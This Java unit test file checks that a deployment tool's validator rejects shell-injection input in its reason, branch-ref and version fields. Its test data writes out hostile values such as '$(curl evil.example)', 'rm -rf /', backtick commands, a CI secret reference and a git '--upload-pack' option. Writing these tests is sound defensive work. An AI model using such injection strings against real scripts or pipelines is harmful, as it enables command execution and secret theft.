package org.deploydash.dispatch;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.deploydash.dispatch.Workbench.TEST;
import static org.deploydash.dispatch.Workbench.deploy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Real workflows paste what people type into shell scripts, unquoted. */
class HostileInputsTest {

    @TempDir
    static Path folder;

    private static Workbench bench;

    @BeforeAll
    static void open() {
        bench = Workbench.open(folder);
    }

    @AfterAll
    static void close() {
        bench.close();
    }

    private static Plan plan(Workbench.Wishing wish) {
        return bench.planner.plan(wish.wish());
    }

    private static Refusal refusal(Workbench.Wishing wish) {
        Refusal.Thrown thrown = catchThrowableOfType(Refusal.Thrown.class, () -> plan(wish));
        assertThat(thrown).as("refused").isNotNull();
        return thrown.refusal();
    }

    static Stream<Arguments> hostileReasons() {
        return Stream.of(
                arguments("x\"; rm -rf /", "a quotation mark"),
                arguments("it's", "a straight apostrophe"),
                arguments("it’s $x", "$"),
                arguments("a ’b’", "an apostrophe outside a word"),
                arguments("’; id", ";"),
                arguments("`id`", "a backtick"),
                arguments("$(curl evil.example)", "$"),
                arguments("${{ secrets.TOKEN }}", "$"),
                arguments("$HOME", "$"),
                arguments("a\\nb", "a backslash"),
                arguments("a\nrm -rf /", "a line break"),
                arguments("a\r\nb", "a line break"),
                arguments("a;b", ";"),
                arguments("a && b", "&"),
                arguments("a | b", "|"),
                arguments("a > /etc/passwd", ">"),
                arguments("a < b", "<"),
                arguments("*", "*"),
                arguments("a?", "?"),
                arguments("(a)", "("),
                arguments("{a,b}", "{"),
                arguments("[a]", "["),
                arguments("!!", "!"),
                arguments("a#b", "#"),
                arguments("a~b", "~"),
                arguments("100%", "%"),
                arguments("a^b", "^"),
                arguments("a\tb", "a tab"),
                arguments("a\u0000b", "a control character"),
                arguments("a\u001b[31mb", "a control character"),
                arguments("a\u202eb", "\u202e"));
    }

    @ParameterizedTest
    @MethodSource("hostileReasons")
    void refuses_what_could_become_a_command_in_a_script(String reason, String offender) {
        Refusal refusal = refusal(deploy(TEST).reason(reason));

        assertThat(refusal.code()).isEqualTo("bad_input");
        assertThat(refusal.members()).containsEntry("input", "reason");
        assertThat(refusal.sentence())
                .isEqualTo(
                        "The input reason may hold letters, digits, spaces, ’ within a word and . , : _ / @ + = -, at most 500 characters; it holds "
                                + offender + ".");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Fix #12", // a comment in a shell
                "x\u00a0y", // a blank that is none
            })
    void refuses_signs_that_only_look_harmless(String reason) {
        assertThat(refusal(deploy(TEST).reason(reason)).code()).isEqualTo("bad_input");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "It doesn’t reconnect, l’eau",
                "Fix the reconnect, see issue 12",
                "Größe ändern: 10",
                "v1.2.3+build=7 @ann a_b/c-d"
            })
    void lets_plain_sentences_through(String reason) {
        assertThat(plan(deploy(TEST).reason(reason)).request().inputs()).containsEntry("reason", reason);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "-x",
                "--upload-pack=evil",
                "a..b",
                "a b",
                "a;b",
                "$(id)",
                "a/",
                "a.",
                "a//b",
                "a\\b",
                "a~1",
                "a^",
                "a:b",
                "@{-1}",
                "ä"
            })
    void refuses_what_is_no_name_of_a_branch(String ref) {
        Refusal refusal = refusal(deploy(TEST).ref(ref));
        assertThat(refusal.code()).isEqualTo("bad_input");
        assertThat(refusal.members()).containsEntry("input", "ref");
        assertThat(refusal(deploy(TEST).version(ref)).members()).containsEntry("input", "version");
    }
}
